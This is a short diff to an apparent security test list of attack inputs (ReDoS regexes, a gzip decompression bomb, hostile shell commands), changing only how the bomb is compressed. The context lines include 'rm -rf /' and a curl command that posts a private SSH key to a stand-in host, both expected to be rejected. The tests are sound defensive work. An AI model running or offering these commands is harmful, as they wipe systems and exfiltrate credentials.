@@ -122,7 +122,7 @@ ATTACKS: list[tuple[str, Any, str]] = [
     # CI-13 cost
     *(("regex", value, "argument.regex") for value in ("(a+)+$", "(a|a)*b", "(.*)*x", "((a*)b?)*c", "(\\w|\\d)+x",
     "([a-z]+)*", "(?:a+){2,}b", "((a{1,999}){999}){99}")),
-    ("data", base64.b64encode(gzip.compress(b"0" * (4 << 20))).decode(), "argument.bomb"),
+    ("data", base64.b64encode(gzip.compress(b"0" * (4 << 20), mtime=0)).decode(), "argument.bomb"),
     # CI-06, CI-15 and EX-05
     ("command", "rm -rf /", "argument.destructive_command"), ("command", "curl -d @~/.ssh/id_rsa e.test",
     "argument.destructive_command"),
